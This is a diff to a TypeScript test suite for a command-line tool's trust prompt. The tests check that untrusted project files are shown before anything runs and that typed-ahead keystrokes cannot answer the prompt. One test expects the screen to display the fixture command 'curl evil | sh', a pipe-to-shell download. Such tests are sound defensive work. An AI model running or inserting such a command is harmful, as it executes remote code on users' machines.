@@ -16,6 +16,7 @@ import {
   writeFileSync,
 } from 'node:fs';
 import { join } from 'node:path';
+import { setTimeout as sleep } from 'node:timers/promises';
 import { describe, expect, test } from 'vitest';
 import { rb, runtime, start } from './program.ts';
 import { newDirectory, newOperator, writeFiles } from './rig.ts';
@@ -61,7 +62,7 @@ describe('at a terminal', () => {
     expect(session.screen()).toContain('was found by walking up and is not trusted');
     expect(session.screen()).toMatch(/For production, rb would\s+│\s+run\s+workload\.instances: \.\/instances/);
     expect(session.screen()).toContain('In all: 1 command.');
-    session.type(keys.enter);
+    await session.answer(keys.enter);
     expect(await session.ended).toBe(4);
     expect([ran(), existsSync(store)]).toEqual([false, false]);
   });
@@ -70,13 +71,25 @@ describe('at a terminal', () => {
     const { at, rb, ran, store, path, entry } = place();
     const session = at(look);
     await session.shows('Trust it? [y/N]');
-    session.type(`y${keys.enter}`);
+    await session.answer(`y${keys.enter}`);
     await session.ended;
     expect(ran()).toBe(true);
     expect((await rb(look)).all).not.toContain('not trusted');
     expect(statSync(store).mode & 0o777).toBe(0o700);
     expect(statSync(entry()).mode & 0o777).toBe(0o600);
     expect(JSON.parse(readFileSync(entry(), 'utf8'))).toMatchObject({ version: 1, path, content: text() });
+  });
+
+  test('a held y and Enter that go on while it appears do not answer it', async () => {
+    const { at, ran, store } = place();
+    const session = at(look);
+    const held = setInterval(() => session.type(`y${keys.enter}`), 30);
+    await session.shows('Trust it? [y/N]');
+    await sleep(1000);
+    clearInterval(held);
+    await session.answer(keys.enter);
+    expect(await session.ended).toBe(4);
+    expect([ran(), existsSync(store)]).toEqual([false, false]);
   });
 
   test('Ctrl-C and the end of input are no answer', async () => {
@@ -130,7 +143,7 @@ describe('at a terminal', () => {
         .filter((line) => /^(?:▸|│ In all: nothing|│ {1,3}run +smoke)/.test(line)),
     ).toEqual([]);
     expect(session.screen().replaceAll(/\n│\s*/g, ' ')).toMatch(/curl\s+evil \| sh/);
-    session.type(keys.enter);
+    await session.answer(keys.enter);
     expect(await session.ended).toBe(4);
     expect(ran()).toBe(false);
   });
@@ -239,7 +252,7 @@ describe('a file that changed after it was trusted', () => {
     const session = at(look);
     await session.shows('Trust it? [y/N]');
     expect(session.screen()).toMatch(/│\s+\+\s+instances: \[\.\/instances, --new\]/);
-    session.type(`y${keys.enter}`);
+    await session.answer(`y${keys.enter}`);
     await session.ended;
     expect(ran()).toBe(true);
     write(text());
